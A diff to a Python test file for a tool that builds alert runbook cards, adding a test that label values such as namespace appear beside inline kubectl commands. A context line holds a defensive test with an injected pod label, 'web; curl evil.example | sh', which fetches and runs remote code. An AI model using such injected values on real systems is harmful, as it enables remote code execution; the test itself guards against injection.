@@ -56,6 +56,14 @@ def test_a_step_shows_its_command_whole_below_it_and_label_values_beside_it() ->
     assert "In this alert: namespace=prod  pod=payments-api-7d4b9c-x2x1q (and 1 more)" in rows
 
 
+def test_label_values_are_shown_for_a_command_inside_a_sentence_too_and_only_then() -> None:
+    inline = cards.summary(cards.step("Run `kubectl -n $NAMESPACE get pods`."))
+    words = cards.summary(cards.step("Call the vendor."))
+
+    assert "In this alert: namespace=prod" in compose(cards.card(summary=inline)).text
+    assert "In this alert:" not in compose(cards.card(summary=words)).text
+
+
 def test_a_label_value_never_stands_in_a_command() -> None:
     evil = cards.alert(pod="web; curl evil.example | sh")
 
